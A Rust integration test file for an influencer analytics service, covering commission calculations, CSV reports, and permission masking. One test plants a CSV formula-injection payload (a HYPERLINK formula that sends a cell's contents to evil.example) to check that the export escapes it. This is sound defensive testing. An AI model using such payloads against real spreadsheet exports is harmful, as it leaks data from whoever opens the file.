//! An influencer's insights and report (docs/influencers.md#insights): orders through their
//! short and through their promocode alone are both theirs (the second as organic), the
//! commission follows the documented formula, the CSV holds one row per order in the merchant's
//! time zone, and an influencer reads only their own figures, masked by their flags.

use diesel::prelude::*;
use serde_json::{json, Value};
use shoplinks::db::schema::{influencers, links, orders};

use crate::analytics_helpers::{
    get_as, get_body, influencer_of, insert_link, record_event, sandbox_order, stocked_products, today, wait_for_order,
    TestLink,
};
use crate::helpers::spawn_app;
use crate::link_helpers::{business_id, merchant_with_store, store_code};

/// `n × bp ÷ 10000`, half up: the documented rounding.
fn share(n: i64, bp: i64) -> i64 {
    (n * bp + 5_000) / 10_000
}

#[tokio::test]
async fn orders_through_a_short_and_through_the_code_alone_are_the_influencers_with_their_commission() {
    let app = spawn_app().await;
    let (shop, _) = merchant_with_store(&app, "insights").await;
    let business = business_id(&app).await;
    store_code(&app, "SPRING10").await;
    let body = json!({"username": "anna", "email": "anna@creators.io", "profile_image_url": "https://cdn.example/a.png",
        "promocode": "SPRING10", "commission": 12.5, "commission_rules": {"reduce_vat_from_commission": true},
        "revenue_rules": {"net_revenue_ratio": 80}, "permissions": {"analytics_clicks_enabled": true}});
    let created: Value = app.post_json("/api/admin/v1/influencers/create", &body).await.json().await.expect("json");
    let password = created["data"]["password"].as_str().expect("password").to_owned();
    let anna: String = {
        let mut conn = app.state.db.get().expect("conn");
        influencers::table
            .filter(influencers::username.eq("anna"))
            .select(influencers::id)
            .first(&mut *conn)
            .expect("id")
    };

    // A short of hers, viewed twice; one shopper buys through it, another types her code.
    let picked = stocked_products(&app, &shop, 2);
    let short = insert_link(
        &app,
        "insights",
        TestLink { kind: "SHORT", influencer_id: Some(&anna), promocode: Some("SPRING10"), ..Default::default() },
    );
    // A title with Hebrew, a quote and a comma, which the report must carry intact.
    let title = "שורט \"קיץ\", 2026";
    {
        let mut conn = app.state.db.get().expect("conn");
        diesel::update(links::table.find(&short)).set(links::description.eq(title)).execute(&mut *conn).expect("title");
    }
    record_event(&app, &short, &short, "VIEW", "click-short", today());
    record_event(&app, &short, &short, "VIEW", "click-other", today());
    let through_short = sandbox_order(&app, &shop, &[(picked[0].1, 1)], None, Some("click-short")).await;
    let by_code = sandbox_order(&app, &shop, &[(picked[1].1, 2)], Some("spring10"), None).await;
    let (o1, _) = wait_for_order(&app, &business, through_short).await;
    let (o2, _) = wait_for_order(&app, &business, by_code).await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(influencer_of(&app, &o1), Some((Some(anna.clone()), "CLICK".into())));
    assert_eq!(influencer_of(&app, &o2), Some((Some(anna.clone()), "INFLUENCER_CODE".into())), "organic: no link");

    // The expected figures, from the stored orders and the documented formula.
    let amounts: Vec<(i64, i64, i64)> = {
        let mut conn = app.state.db.get().expect("conn");
        orders::table
            .filter(orders::id.eq_any([&o1, &o2]))
            .order(orders::number.asc())
            .select((orders::total_minor, orders::refunded_minor, orders::tax_minor))
            .load(&mut *conn)
            .expect("orders")
    };
    let calculated: Vec<i64> = amounts.iter().map(|(total, _, tax)| share(total - tax, 8_000)).collect();
    let commission: i64 = calculated.iter().map(|c| share(*c, 1_250)).sum();
    let revenue: i64 = amounts.iter().map(|(total, refunded, _)| total - refunded).sum();
    let money = |minor: i64| format!("{}.{:02}", minor / 100, minor % 100);

    let (status, insights) = get_body(&app, "/api/admin/v1/influencers/anna/analytics").await;
    assert_eq!(status, 200, "{insights}");
    let d = &insights["data"];
    assert_eq!(d["total_sales"], 2);
    assert_eq!(d["sales"]["shorts"]["sales"], 1);
    assert_eq!(d["sales"]["organic"]["sales"], 1);
    assert_eq!(d["sales"]["links"]["sales"], 0);
    assert_eq!(d["clicks"], 2);
    assert_eq!(d["shorts_clicks"], 2);
    assert_eq!(d["cr"], 50.0, "one of two views bought");
    assert_eq!(d["total_revenue"], money(revenue));
    assert_eq!(d["calculated_revenue"], money(calculated.iter().sum()));
    assert_eq!(d["commission"], money(commission));
    assert_eq!(d["commission_rate"], 12.5);
    let (_, all) = get_body(&app, "/api/admin/v1/influencers/analytics").await;
    assert_eq!(all["data"]["influencers"][0]["commission"], money(commission), "{all}");

    // The report: a header and a row per order, parsed by a standard reader.
    let res = app.get("/api/admin/v1/influencers/anna/report?timezone=Asia/Jerusalem").await;
    assert_eq!(res.status(), 200);
    let disposition = res.headers()["content-disposition"].to_str().expect("header").to_owned();
    assert_eq!(
        disposition,
        format!("attachment; filename=\"anna_start_{}.csv\"", today()),
        "the business's days (UTC here)"
    );
    let text = res.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().expect("header").iter().map(str::to_owned).collect();
    assert_eq!(header[0], "Order");
    assert_eq!(header[10], "Commission");
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0][2], &rows[1][2]), ("short", "organic"));
    assert_eq!((&rows[0][3], &rows[1][3]), (title, ""), "the link's title survives quoting");
    let row_commission: i64 = rows.iter().map(|r| r[10].replace('.', "").parse::<i64>().expect("minor units")).sum();
    assert_eq!(row_commission, commission, "the rows add up to the insights");
    let (status, _) = get_body(&app, "/api/admin/v1/influencers/anna/report?timezone=Mars/Olympus").await;
    assert_eq!(status, 400);

    // Anna herself: her own figures, masked to clicks; nobody else's; no report.
    let token = crate::analytics_helpers::influencer_token(&app, "insights", "anna", &password).await;
    let (status, own) = get_as(&app, &token, "/api/admin/v1/influencers/anna/analytics").await;
    assert_eq!(status, 200, "{own}");
    assert_eq!(own["data"]["clicks"], 2);
    for hidden in ["total_sales", "total_revenue", "commission", "calculated_revenue", "aov", "cr"] {
        assert_eq!(own["data"][hidden], Value::Null, "{hidden} needs a permission she lacks");
    }
    assert_eq!(own["data"]["sales"]["organic"]["sales"], Value::Null);
    assert_eq!(get_as(&app, &token, "/api/admin/v1/influencers/someone/analytics").await.0, 404);
    assert_eq!(get_as(&app, &token, "/api/admin/v1/influencers/analytics").await.0, 403);
    assert_eq!(get_as(&app, &token, "/api/admin/v1/influencers/anna/report").await.0, 403);

    // Her earnings need the commission permission; the merchant reads them on her page instead.
    let (status, refused) = get_as(&app, &token, "/api/admin/v1/earnings").await;
    assert_eq!(
        (status, &refused["error"]["message"]),
        (403, &json!("Your merchant has not shared your commission with you"))
    );
    assert_eq!(get_as(&app, &token, "/api/admin/v1/earnings/report").await.0, 403);
    assert_eq!(get_body(&app, "/api/admin/v1/earnings").await.0, 403);
    {
        let mut conn = app.state.db.get().expect("conn");
        diesel::update(influencers::table.find(&anna))
            .set((influencers::perm_commission.eq(true), influencers::perm_sales.eq(true)))
            .execute(&mut *conn)
            .expect("permissions");
    }
    let token = crate::analytics_helpers::influencer_token(&app, "insights", "anna", &password).await;
    let (status, earned) = get_as(&app, &token, "/api/admin/v1/earnings").await;
    assert_eq!(status, 200, "{earned}");
    let e = &earned["data"];
    for part in ["range", "lifetime"] {
        assert_eq!(e[part]["commission"], money(commission), "{part}: the merchant's figure for her");
        assert_eq!(e[part]["calculated_revenue"], money(calculated.iter().sum()));
        assert_eq!(
            (&e[part]["sales"]["shorts"]["sales"], &e[part]["sales"]["organic"]["sales"]),
            (&json!(1), &json!(1))
        );
        assert_eq!(e[part]["total_revenue"], Value::Null, "revenue is still not shared with her");
    }
    assert_eq!(
        e["rules"],
        json!({"commission_rate": 12.5, "net_revenue_ratio": 80.0, "reduce_refunds": false, "reduce_vat": true})
    );
    let (status, old) = get_as(&app, &token, "/api/admin/v1/earnings?from_date=2023-01-01&to_date=2023-01-31").await;
    assert_eq!(status, 200);
    assert_eq!(
        (&old["data"]["range"]["commission"], &old["data"]["lifetime"]["commission"]),
        (&json!("0.00"), &json!(money(commission)))
    );
    // Her own CSV: what she earned per order, without the order amounts she may not see.
    let res = reqwest::Client::new()
        .get(format!("{}/api/admin/v1/earnings/report?timezone=Asia/Jerusalem", app.address))
        .bearer_auth(&token)
        .send()
        .await
        .expect("request");
    assert_eq!(res.status(), 200);
    let text = res.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().expect("header").iter().map(str::to_owned).collect();
    assert_eq!(header, ["Order", "Date", "Channel", "Link", "Calculated revenue", "Commission %", "Commission"]);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
    let own_commission: i64 = rows.iter().map(|r| r[6].replace('.', "").parse::<i64>().expect("minor units")).sum();
    assert_eq!((rows.len(), own_commission), (2, commission), "the rows add up to her earnings");
}

/// The report is opened in spreadsheets: a link title an influencer typed as a formula must
/// arrive as text (a `'` in front), while the amounts stay numbers (docs/security.md#csv-downloads).
#[tokio::test]
async fn a_report_cell_that_starts_like_a_formula_is_written_as_text() {
    let app = spawn_app().await;
    let (shop, _) = merchant_with_store(&app, "formulas").await;
    let business = business_id(&app).await;
    let body = json!({"username": "mal", "email": "mal@creators.io", "commission": 10,
        "profile_image_url": "https://cdn.example/m.png",
        "permissions": {"allow_creating_and_editing_links": true}});
    let res = app.post_json("/api/admin/v1/influencers/create", &body).await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap_or_default());
    let mal: String = {
        let mut conn = app.state.db.get().expect("conn");
        influencers::table
            .filter(influencers::username.eq("mal"))
            .select(influencers::id)
            .first(&mut *conn)
            .expect("id")
    };
    let picked = stocked_products(&app, &shop, 1);
    let short =
        insert_link(&app, "formulas", TestLink { kind: "SHORT", influencer_id: Some(&mal), ..Default::default() });
    let title = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
    {
        let mut conn = app.state.db.get().expect("conn");
        diesel::update(links::table.find(&short)).set(links::description.eq(title)).execute(&mut *conn).expect("title");
    }
    record_event(&app, &short, &short, "VIEW", "click-formula", today());
    let placed = sandbox_order(&app, &shop, &[(picked[0].1, 1)], None, Some("click-formula")).await;
    let (order, _) = wait_for_order(&app, &business, placed).await;
    assert_eq!(influencer_of(&app, &order), Some((Some(mal.clone()), "CLICK".into())));

    let res = app.get("/api/admin/v1/influencers/mal/report").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(&rows[0][3], format!("'{title}"), "the title is text, not a formula");
    for (column, value) in rows[0].iter().enumerate() {
        assert!(!value.starts_with(['=', '+', '@', '\t', '\r']), "column {column} runs as a formula: {value:?}");
    }
    assert!(rows[0][4].parse::<f64>().is_ok(), "the total stays a number: {:?}", &rows[0][4]);
}
